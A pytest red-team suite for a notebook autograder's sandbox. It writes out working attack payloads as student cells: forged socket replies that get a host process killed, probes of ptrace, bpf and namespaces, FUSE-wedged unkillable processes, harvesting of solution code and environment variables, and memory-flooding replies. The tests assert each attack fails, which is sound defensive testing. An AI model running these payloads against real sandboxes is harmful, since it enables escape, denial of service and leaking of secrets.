"""Red team: one attack of our own for each way student code has got through
the sandbox (the classes of issue 13), graded in one batch with honest students
after them in the same worker.

Every attack worked on the grader before the fix. Here each must gain nothing,
touch nothing outside its sandbox, and leave the honest students graded after
it with exactly the results they get alone. After the batch the host is
checked: the process the attacks aim at is alive, no file was written outside
the sandbox, no SysV IPC object is left, and no process of any student uid
survives.
"""

from __future__ import annotations

import json
import math
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from tests import support
from tests.catalogue.training_slope import MISTAKES
from tests.support import Case

A = "training_slope"
ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="namespaces and per-submission uids need root")
#: Where an attack tries to leave a file on the host's disk (the token makes it ours).
TOKEN = f"redteam-{os.getpid()}"
HOST_FILES = [Path("/run/lock") / TOKEN, Path("/var/lock") / TOKEN, Path("/var/tmp") / TOKEN,
              Path("/dev/shm") / TOKEN, Path("/tmp") / TOKEN]
HONEST = {"zz-honest-perfect": Case("perfect"), "zz-honest-sum-not-mean": MISTAKES[3]}

# ------------------------------------------------------------------ attacks

#: Class 1: when the node forks a copy for a probe, an at-fork hook writes a forged
#: reply naming the sentinel's pid on the node's socket. The old grader SIGKILLed it.
FORGES_PIDS = """
import json, os, stat, struct
_SENTINEL = {sentinel}
def _forge():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                for pid in (_SENTINEL, _SENTINEL):
                    frame = json.dumps({{"pid": pid, "forked": True}}).encode()
                    os.write(fd, struct.pack(">Q", len(frame)) + frame)
        except OSError:
            pass
os.register_at_fork(after_in_parent=_forge)
"""

#: Class 2: kernel features and host resources no exercise needs, tried in a child
#: (so the node keeps working); anything that works is reported by forward raising.
GAINS_KERNEL_FEATURES = r"""
import ctypes, os, json
_libc = ctypes.CDLL(None, use_errno=True)
def _attempts(token):
    gained = []
    def attempt(name, fn):
        try:
            if fn():
                gained.append(name)
        except Exception:
            pass
    status = open("/proc/self/status").read()
    attempt("no_new_privs off", lambda: "NoNewPrivs:\t0" in status)
    attempt("no seccomp filter", lambda: "Seccomp:\t0" in status)
    attempt("devices beyond the five", lambda: set(os.listdir("/dev")) - {"null", "zero", "full", "random", "urandom", "shm"})
    attempt("fuse device", lambda: os.close(os.open("/dev/fuse", os.O_RDWR)) is None)
    attempt("host processes visible", lambda: len([p for p in os.listdir("/proc") if p.isdigit()]) > 20)
    for folder in ("/run/lock", "/var/lock", "/etc", "/usr/local", "/"):
        def write(folder=folder):
            with open(os.path.join(folder, token), "w") as f:
                f.write("x")
            return True
        attempt("host disk writable at " + folder, write)
    attempt("ptrace", lambda: _libc.ptrace(0, 0, 0, 0) == 0)                  # PTRACE_TRACEME
    attempt("keyring", lambda: _libc.syscall(250, 1, 0, 0, 0, 0) >= 0)       # keyctl(JOIN_SESSION_KEYRING)
    attr = (ctypes.c_uint32 * 32)(1, 128)             # PERF_TYPE_SOFTWARE, size 128, config CPU_CLOCK,
    attr[10] = 96                                     # exclude_kernel | exclude_hv: what a user may count
    attempt("perf events", lambda: _libc.syscall(298, attr, 0, -1, -1, 0) >= 0)
    attempt("bpf", lambda: _libc.syscall(321, 0, None, 0) >= 0)
    # SysV objects: allowed, but they must die with the submission (checked on the host)
    _libc.shmget(0, 1 << 20, 0o1600)   # IPC_PRIVATE, IPC_CREAT | 0600
    _libc.msgget(0, 0o1600)
    if _libc.unshare(0x10000000) == 0:                                       # CLONE_NEWUSER
        gained.append("user namespace")
        uid = os.getuid()
        try:
            open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
        except OSError:
            pass
        if _libc.unshare(0x00020000) == 0:                                   # CLONE_NEWNS
            gained.append("mount namespace")
            os.makedirs("/tmp/m", exist_ok=True)
            if _libc.mount(b"none", b"/tmp/m", b"tmpfs", 0, None) == 0:
                gained.append("mount")
    return gained
read, write = os.pipe()
child = os.fork()
if child == 0:
    os.write(write, json.dumps(_attempts("{token}")).encode())
    os._exit(0)
os.waitpid(child, 0)
GAINED = json.loads(os.read(read, 100_000) or b"[]")
"""
FORWARD_REPORTS_GAINS = ("def forward(x):\n    if GAINED:\n        raise RuntimeError('ESCAPED: ' + ', '.join(GAINED))\n"
                         "    return w * x\n")

#: Class 2: a uid of one's own. Processes left behind (daemons, stopped ones) and
#: the uid each cell runs as, seen from the next submission.
LEAVES_PROCESSES = """
import os, signal, time
for _ in range(20):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            time.sleep(3600)
        os._exit(0)
if os.fork() == 0:
    os.kill(os.getpid(), signal.SIGSTOP)
    os._exit(0)
"""

#: Class 2: processes no signal can end. In a user namespace of its own a student
#: can mount a FUSE file system, answer its INIT, and leave processes waiting for
#: a reply nobody will send while they hold the only handle that could cancel it.
#: The old grader gave each worker's submissions one uid, so enough of them used up
#: its process limit and every later student got "internal error".
WEDGES_PROCESSES_IN_FUSE = r"""
import ctypes, os, struct
def _wedge(victims=300, mountpoint="/tmp/wedge"):
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    libc.prctl(4, 1, 0, 0, 0)                                   # PR_SET_DUMPABLE: own /proc/self again
    if libc.unshare(0x10000000 | 0x00020000) != 0:             # CLONE_NEWUSER | CLONE_NEWNS
        return
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as f:
            f.write(text)
    fd = os.open("/dev/fuse", os.O_RDWR)
    os.makedirs(mountpoint, exist_ok=True)
    if libc.mount(b"wedge", mountpoint.encode(), b"fuse", 6, f"fd={fd},rootmode=40000,user_id=0,group_id=0".encode()):
        return
    _, opcode, unique = struct.unpack_from("<IIQ", os.read(fd, 1 << 20))
    # FUSE_INIT answered: version 7.31, lookups in one directory in parallel (FUSE_PARALLEL_DIROPS)
    body = struct.pack("<IIIIHHIIHHII6I", 7, 31, 0, 1 << 18, 1, 1, 4096, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0)
    os.write(fd, struct.pack("<IiQ", 16 + len(body), 0, unique) + body)
    for victim in range(victims):
        try:
            pid = os.fork()
        except OSError:                                         # the uid's process limit is full
            return
        if pid == 0:
            try:
                os.stat(f"{mountpoint}/x{victim}")              # waits for an answer forever
            finally:
                os._exit(0)
        os.read(fd, 1 << 20)                                    # read its LOOKUP, never answer it
_child = os.fork()
if _child == 0:
    try:
        _wedge()
    finally:
        os._exit(0)
os.waitpid(_child, 0)
"""

#: Class 4: the data the whole-notebook check replays training on is replaced, so
#: that the slope never has to move (train_model is right for any other data).
ZEROES_THE_DATA = """
def train_model(n_iter, lr):
    global X, Y
    if X.shape[0] == 60:               # the notebook's own data: make it all zeros
        X, Y = torch.zeros_like(X), torch.zeros_like(Y)
        return [0.0] * n_iter
    losses = []
    for _ in range(n_iter):
        loss = criterion(forward(X), Y)
        backward_update(loss, [w], lr)
        zero_grad([w])
        losses.append(loss.item())
    return losses
"""

#: Class 5: train_model runs beside the reference versions of the earlier cells. It
#: collects every piece of code and every course path it can reach and tries each
#: channel to the feedback: an exception, returned text, patched names.
_COLLECT = r"""
import gc, os, sys
def _secrets():
    found = []
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, str) and len(value) > 8:
                found.append(value)
            elif isinstance(value, dict):
                for item in list(value.values()):
                    if isinstance(item, list):
                        found.extend(v for v in item if isinstance(v, str))
                    elif isinstance(item, str):
                        found.append(item)
        frame = frame.f_back
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            found.extend(v for v in list(obj.values())[:50] if isinstance(v, str) and ("def " in v or "/" in v))
    for name in ("forward", "criterion", "backward_update", "zero_grad"):
        fn = globals().get(name)
        code = getattr(fn, "__code__", None)
        if code is not None:
            found.append(" ".join(map(str, code.co_names + code.co_varnames)))
    found.extend(open("/proc/self/mountinfo").read().split())
    found.extend(f"{k}={v}" for k, v in os.environ.items())
    return [f for f in found if f.strip()]
"""
LEAKS_BY_EXCEPTION = _COLLECT + """
def train_model(n_iter, lr):
    raise RuntimeError("\\n".join(_secrets())[:1900])
"""
LEAKS_BY_RETURNED_TEXT = _COLLECT + """
def train_model(n_iter, lr):
    return [line for text in _secrets() for line in text.splitlines()][:n_iter * 50]
"""
LEAKS_BY_PATCHED_NAMES = _COLLECT + """
import re
def train_model(n_iter, lr):
    for text in _secrets():
        for line in text.splitlines():
            name = re.sub(r"\\W+", "_", line.strip())[:60]
            if name and not name[0].isdigit():
                try:
                    setattr(torch.Tensor, name, None)
                    setattr(torch, name, None)
                except Exception:
                    pass
    raise RuntimeError("patched")
"""
LEAKS_PATHS_FROM_FORWARD = _COLLECT + """
def forward(x):
    raise RuntimeError(" ".join(t for t in _secrets() if "/" in t)[:1900])
"""

#: Class 6: a probe's copy writes a forged 60 MB reply (the old grader read and
#: decoded it), and many probes of one student each send as much as a reply may hold.
FORGES_A_HUGE_REPLY = """
import os, stat, struct
def forward(x):
    body = b'{"ok":true,"error":null,"stdout":"","patched":[],"value":[' + b"[]," * 20_000_000 + b'[]]}'
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">Q", len(body)))
                view = memoryview(body)
                while view:
                    view = view[os.write(fd, view):]
        except OSError:
            pass
    os._exit(0)
"""
FILLS_EVERY_REPLY = """
def forward(x):
    return [0.5] * 200_000   # 800 KB of JSON: as much as a reply may hold, every time it is called
"""


def attacks(sentinel: int) -> dict[str, Case]:
    return {
        "a1-forges-copy-pids": Case("forges", extra_cells=(FORGES_PIDS.format(sentinel=sentinel),)),
        "a2-gains-kernel-features": Case("kernel", {"forward": FORWARD_REPORTS_GAINS},
                                         extra_cells=()),
        "a3-leaves-processes": Case("leftovers", extra_cells=(LEAVES_PROCESSES,)),
        "a3-wedges-processes-in-fuse": Case("wedge", extra_cells=(WEDGES_PROCESSES_IN_FUSE,)),
        "a4-zeroes-the-data": Case("zeroes", {"train_model": ZEROES_THE_DATA}),
        "a5-leaks-by-exception": Case("leak1", {"train_model": LEAKS_BY_EXCEPTION}),
        "a5-leaks-by-returned-text": Case("leak2", {"train_model": LEAKS_BY_RETURNED_TEXT}),
        "a5-leaks-by-patched-names": Case("leak3", {"train_model": LEAKS_BY_PATCHED_NAMES}),
        "a5-leaks-paths-from-forward": Case("leak4", {"forward": LEAKS_PATHS_FROM_FORWARD}),
        "a6-forges-a-huge-reply": Case("huge", {"forward": FORGES_A_HUGE_REPLY}),
        "a6-fills-every-reply": Case("fills", {"forward": FILLS_EVERY_REPLY}),
    }


def _with_kernel_attempts(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The kernel-features attack runs its attempts in a cell before forward is defined."""
    index = next(i for i, c in enumerate(nb.cells) if support.grade_id(c) == "forward")
    nb.cells.insert(index, nbformat.v4.new_code_cell(GAINS_KERNEL_FEATURES.replace("{token}", TOKEN)))
    return nb


# ------------------------------------------------------------------ the host


def _sysv_objects() -> set[str]:
    found = set()
    for kind in ("shm", "msg", "sem"):
        try:
            lines = Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]
        except OSError:
            continue
        found |= {f"{kind}:{line.split()[1]}" for line in lines if line.split()}
    return found


def _uptime() -> float:
    return float(Path("/proc/uptime").read_text().split()[0])


#: The first uid the sandbox gives a submission (autograder.sandbox.leftovers.STUDENT_UID_BASE; not
#: imported, which would load torch into this process).
STUDENT_UIDS = 100_000


def _stat(pid: int) -> list[str]:
    """The fields of /proc/PID/stat after the command's name (the parent is [1], the start time [19])."""
    return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()


def _uid(pid: int) -> int:
    return int(next(line for line in Path(f"/proc/{pid}/status").read_text().splitlines()
                    if line.startswith("Uid:")).split()[1])


def _student_processes(started_after: float = 0.0, started_before: float = math.inf) -> list[int]:
    """Processes running as a student uid, started between the two uptimes (seconds since boot):
    other tests running at the same time grade students too, so a batch only counts its own."""
    found, tick = [], os.sysconf("SC_CLK_TCK")
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                uid, started = _uid(int(entry)), int(_stat(int(entry))[19]) / tick
            except (OSError, StopIteration, ValueError, IndexError):
                continue
            if uid >= STUDENT_UIDS and started_after <= started <= started_before:
                found.append(int(entry))
    return found


def _in_a_running_sandbox(pid: int) -> bool:
    """Whether a live fork server (not a student's process forked from one) is among the
    process's ancestors: then it belongs to a sandbox still running (another test's, started
    while this batch ran), not to the finished batch, whose fork servers ended with it (what a
    batch leaves behind is re-parented to init or a subreaper)."""
    try:
        for _ in range(64):
            pid = int(_stat(pid)[1])
            if pid <= 1:
                return False
            command = Path(f"/proc/{pid}/cmdline").read_bytes()
            if _uid(pid) < STUDENT_UIDS and b"autograder.sandbox.forkserver" in command:
                return True
    except (OSError, ValueError, IndexError, StopIteration):
        pass
    return False


def _described(pid: int) -> str:
    try:
        command = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")[:120]
        return f"{pid} (parent {_stat(pid)[1]}): {command}"
    except (OSError, IndexError):
        return f"{pid} (gone)"


def _peak_rss_mb(command: list[str]) -> tuple[subprocess.CompletedProcess, float]:
    """Run ``command``; also return the largest resident size any process of it reached."""
    wrapper = ("import resource, subprocess, sys\n"
               "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
               "sys.stdout.write(done.stdout)\nsys.stderr.write(done.stderr)\n"
               "print('PEAK_RSS_KB', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
               "sys.exit(done.returncode)\n")
    done = subprocess.run([sys.executable, "-c", wrapper, *command], cwd=support.ROOT, capture_output=True,
                          text=True, timeout=1800)
    peak = int(re.search(r"PEAK_RSS_KB (\d+)", done.stdout).group(1))
    return done, peak / 1024


def _grade_command(submitted: Path, out: Path) -> list[str]:
    return [sys.executable, "-m", "autograder", "grade", A, str(submitted), "--out", str(out),
            "--jobs", "1", "--timeout", "10", "--quiet"]


# ----------------------------------------------------------------- the runs


def _abort_fuse_connections() -> None:
    """Free processes stuck in a FUSE file system (if the wedge attack ever worked)."""
    connections = Path("/sys/fs/fuse/connections")
    if os.geteuid() != 0 or not connections.is_dir():
        return
    if not any(connections.iterdir()):
        subprocess.run(["mount", "-t", "fusectl", "none", str(connections)], capture_output=True)
    for connection in connections.iterdir():
        try:
            (connection / "abort").write_text("1")
        except OSError:
            pass


@pytest.fixture(scope="module")
def sentinel():
    """A process of the host's that attacks aim at (it must survive)."""
    process = subprocess.Popen(["sleep", "3600"])
    yield process
    process.kill()
    process.wait()


@pytest.fixture(scope="module")
def solo(tmp_path_factory):
    """The honest students graded on their own."""
    root = tmp_path_factory.mktemp("solo")
    for name, case in HONEST.items():
        support.write(root / "submitted", name, A, support.build(A, case))
    done, peak_mb = _peak_rss_mb(_grade_command(root / "submitted", root / "out"))
    assert done.returncode == 0, done.stderr
    return {"out": root / "out", "peak_mb": peak_mb}


@pytest.fixture(scope="module")
def batch(tmp_path_factory, sentinel):
    """Every attack, then the honest students, in one worker (``--jobs 1``)."""
    root = tmp_path_factory.mktemp("redteam")
    submitted, out = root / "submitted", root / "out"
    for name, case in attacks(sentinel.pid).items():
        nb = support.build(A, case)
        if name == "a2-gains-kernel-features":
            nb = _with_kernel_attempts(nb)
        support.write(submitted, name, A, nb)
    for name, case in HONEST.items():
        support.write(submitted, name, A, support.build(A, case))
    ipc_before = _sysv_objects()
    try:
        began = _uptime()
        done, peak_mb = _peak_rss_mb(_grade_command(submitted, out))
        ended = _uptime()
        assert done.returncode == 0, done.stderr[-3000:]
        time.sleep(1)
        # Started by this batch, and still there a while after it ended (another test's
        # submission running at the same time ends within seconds).
        left = set(_student_processes(began, ended))
        time.sleep(4)
        left &= set(_student_processes(began, ended))
        left = [_described(pid) for pid in sorted(left) if not _in_a_running_sandbox(pid)]
        yield {"out": out, "submitted": submitted, "peak_mb": peak_mb, "ipc_before": ipc_before,
               "ipc_after": _sysv_objects(), "students_left": left}
    finally:
        _abort_fuse_connections()


def _comparable(result: dict) -> list:
    return [(t["name"], t["status"], t["output"]) for t in result["tests"]]


def test_honest_students_after_every_attack_get_exactly_their_solo_results(batch, solo):
    for name in HONEST:
        alone, after = support.results(solo["out"], name), support.results(batch["out"], name)
        assert _comparable(after) == _comparable(alone), name
        assert after["score"] == alone["score"] and after["output"] == alone["output"]


def test_a_forged_copy_pid_is_never_signalled(batch, sentinel):
    """The forged replies cost their sender its own probes (they are not what the
    grader asked for), and nothing else: the process they name lives on."""
    assert sentinel.poll() is None, "the sentinel process was killed"
    messages = " ".join(t["output"] for t in support.results(batch["out"], "a1-forges-copy-pids")["tests"])
    assert "broke the grader's protocol" in messages


@ROOT_ONLY
def test_student_code_gains_no_kernel_feature_and_writes_nothing_on_the_host(batch):
    result = support.results(batch["out"], "a2-gains-kernel-features")
    assert "ESCAPED" not in json.dumps(result), support.failed_messages(result, {"test_forward"})
    support.assert_full_marks(A, result, "a2-gains-kernel-features")
    assert result["extra_data"]["isolation"] == "namespace"
    assert [p for p in HOST_FILES if p.exists()] == []
    assert batch["ipc_after"] <= batch["ipc_before"], "SysV IPC objects outlived their submission"


@ROOT_ONLY
def test_nothing_a_submission_started_outlives_it(batch):
    assert batch["students_left"] == []
    for name in ("a3-leaves-processes", "a3-wedges-processes-in-fuse"):
        support.assert_full_marks(A, support.results(batch["out"], name), name)


def test_the_converged_check_judges_the_notebooks_own_data(batch):
    result = support.results(batch["out"], "a4-zeroes-the-data")
    scores = support.cell_scores(result)
    assert scores["test_converged"] == 0
    assert "not what the provided cells made" in " ".join(support.failed_messages(result, {"test_converged"}))
    assert scores["test_train_model"] == support.cell_max(A)["test_train_model"]


def _solution_lines() -> set[str]:
    """Lines of the reference solutions and of the hidden checks that say something."""
    lines = set()
    for path in [support.ROOT / "solutions" / f"{A}.py", support.ROOT / "autograder" / "checks" / f"{A}.py",
                 support.ROOT / "autograder" / "checks" / "steps.py"]:
        for line in path.read_text().splitlines():
            line = line.strip()
            if len(line) >= 12 and not line.startswith(("#", '"""', "def test_", "@cell", "fail(", "f\"", "\"")):
                lines.add(line)
    return lines


def test_no_solution_line_and_no_course_path_reaches_any_student(batch):
    secrets = _solution_lines() | {str(batch["submitted"]), str(batch["out"]),
                                   str(batch["submitted"].resolve()), str(batch["out"].resolve())}
    for student in [*[s for s in os.listdir(batch["out"]) if s.startswith("a")], *HONEST]:
        own = nbformat.read(str(batch["submitted"] / student / A / f"{A}.ipynb"), as_version=4)
        own_lines = {line.strip() for cell in own.cells for line in cell.source.splitlines()}
        shown = (batch["out"] / student / "results.json").read_text()
        shown += (batch["out"] / student / "feedback.html").read_text()
        leaked = [s for s in secrets - own_lines if s in shown or json.dumps(s)[1:-1] in shown]
        assert leaked == [], f"{student} was shown {leaked[:3]}"


def test_a_leaking_train_model_still_gets_a_message_in_the_courses_terms(batch):
    result = support.results(batch["out"], "a5-leaks-by-exception")
    messages = " ".join(support.failed_messages(result, {"test_train_model"}))
    assert "train_model(n_iter, lr) raised RuntimeError" in messages


def test_a_huge_or_endless_reply_costs_its_sender_and_not_the_graders_memory(batch):
    result = support.results(batch["out"], "a6-forges-a-huge-reply")
    assert support.cell_scores(result)["test_forward"] == 0
    assert "larger than the 1024 KB one answer may take" in " ".join(support.failed_messages(result, {"test_forward"}))
    fills = support.results(batch["out"], "a6-fills-every-reply")
    assert "should return a tensor" in " ".join(support.failed_messages(fills, {"test_forward"}))


def test_the_graders_memory_stays_within_its_bound_whatever_the_replies(batch, solo):
    """A worker holds at most ``Limits.replies_mb`` of one submission's replies,
    about 12 times that once decoded (JSON lists of small numbers, the worst
    case): its peak is the honest run's plus that, whatever the nodes send
    (the forged 60 MB reply once took the grader from 345 MB to 4.5 GB)."""
    from autograder.config import load_limits

    bound = solo["peak_mb"] + 12 * load_limits(support.ROOT).replies_mb
    assert batch["peak_mb"] < bound, f"the grader reached {batch['peak_mb']:.0f} MB (bound {bound:.0f} MB)"


# ------------------------------------------------- class 3: files that break readers


def _notebook_json() -> dict:
    return json.loads(nbformat.writes(support.source_notebook(A)))


def _index(data: dict, grade_id: str) -> int:
    return next(i for i, c in enumerate(data["cells"]) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


#: (what is wrong, where, the wrong value): every field of the notebook and of nbgrader's metadata, a wrong type each.
WRONG_TYPES = [
    ("nbformat", (), "nbformat", "4"), ("nbformat_minor", (), "nbformat_minor", None),
    ("metadata", (), "metadata", []), ("kernelspec", ("metadata",), "kernelspec", 5),
    ("autograder", ("metadata",), "autograder", "training_slope"), ("assignment", ("metadata", "autograder"), "assignment", 7),
    ("cells", (), "cells", {"0": "x"}), ("a cell", ("cells",), 5, "a cell that is a string"),
    ("cell_type", ("cells", 5), "cell_type", 3), ("source", ("cells", 5), "source", 42),
    ("source list", ("cells", 5), "source", [1, None, {"x": 1}]), ("cell metadata", ("cells", 5), "metadata", []),
    ("nbgrader", ("cells", 5, "metadata"), "nbgrader", "yes"),
    ("grade_id", ("cells", 5, "metadata", "nbgrader"), "grade_id", 5),
    ("grade_id list", ("cells", 5, "metadata", "nbgrader"), "grade_id", ["forward"]),
    ("solution", ("cells", 5, "metadata", "nbgrader"), "solution", "yes"),
    ("grade", ("cells", 6, "metadata", "nbgrader"), "grade", {}),
    ("locked", ("cells", 6, "metadata", "nbgrader"), "locked", 1.5),
    ("points", ("cells", 6, "metadata", "nbgrader"), "points", "two"),
    ("schema_version", ("cells", 6, "metadata", "nbgrader"), "schema_version", None),
    ("outputs", ("cells", 5), "outputs", "none"), ("execution_count", ("cells", 5), "execution_count", "one"),
    ("id", ("cells", 5), "id", 5),
]


def fuzz_corpus() -> dict[str, bytes]:
    """Files that each broke the old loader, or any reader: one student each."""
    corpus = {}
    deep = "[" * 100_000 + "]" * 100_000
    corpus["f-deep-nesting"] = ('{"cells": [' + deep + '], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}').encode()
    data = _notebook_json()
    data["metadata"]["deep"] = json.loads("[" * 900 + "]" * 900)
    corpus["f-deep-metadata"] = json.dumps(data).encode()
    data = _notebook_json()
    data["metadata"]["many"] = [[] for _ in range(600_000)]
    corpus["f-countless-lists"] = json.dumps(data).encode()
    text = json.dumps(_notebook_json())
    corpus["f-invalid-utf8"] = text.replace("def forward", "def \udcff forward", 1).encode("utf-8", "surrogateescape")
    corpus["f-nul-bytes"] = text.encode()[:5000] + b"\x00\x00" + text.encode()[5000:]
    data = _notebook_json()
    data["cells"][_index(data, "forward")]["source"] = "def forward(x):\n    return w * x\x00\n"
    corpus["f-nul-in-a-cell"] = json.dumps(data).encode()
    data = _notebook_json()
    data["cells"][_index(data, "criterion")]["source"] = "(" * 3_000_000
    corpus["f-huge-unparsable-cell"] = json.dumps(data).encode()
    data = _notebook_json()
    data["cells"].append({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                          "source": "x = [" + "1, " * 600_000 + "]"})
    corpus["f-huge-data-cell"] = json.dumps(data).encode()
    for label, where, key, value in WRONG_TYPES:
        data = _notebook_json()
        target = data
        for step in where:
            target = target[step]
        target[key] = value
        corpus["f-wrong-" + label.replace(" ", "-")] = json.dumps(data).encode()
    return corpus


@pytest.fixture(scope="module")
def fuzzed(tmp_path_factory):
    root = tmp_path_factory.mktemp("fuzz")
    submitted, out = root / "submitted", root / "out"
    corpus = fuzz_corpus()
    for name, content in corpus.items():
        support.write(submitted, name, A, content)
    for name, case in HONEST.items():
        support.write(submitted, name, A, support.build(A, case))
    done = subprocess.run(_grade_command(submitted, out), cwd=support.ROOT, capture_output=True, text=True,
                          timeout=1800)
    assert done.returncode == 0, done.stderr[-3000:]
    return out, corpus


def test_a_broken_file_is_its_own_students_result_and_nobody_elses(fuzzed, solo):
    out, corpus = fuzzed
    for name in corpus:
        result = support.results(out, name)
        assert "not your fault" not in result["output"] and "internal error" not in json.dumps(result), name
        assert set(support.cell_scores(result)) == set(support.cell_max(A)), name
    for name in HONEST:
        alone, after = support.results(solo["out"], name), support.results(out, name)
        assert _comparable(after) == _comparable(alone), name


def test_a_file_no_person_saved_says_what_is_wrong_with_it(fuzzed):
    out, _ = fuzzed
    assert "nested thousands of levels deep" in support.results(out, "f-deep-nesting")["output"]
    assert "JSON lists and objects" in support.results(out, "f-countless-lists")["output"]
    assert "not text" in support.results(out, "f-invalid-utf8")["output"]
    huge = support.results(out, "f-huge-unparsable-cell")
    assert "thousand characters of code" in " ".join(support.failed_messages(huge, {"test_criterion"}))
    # A cell with a NUL byte raises where it runs, like any cell that is not Python.
    nul = support.results(out, "f-nul-in-a-cell")
    assert support.cell_scores(nul)["test_forward"] == 0
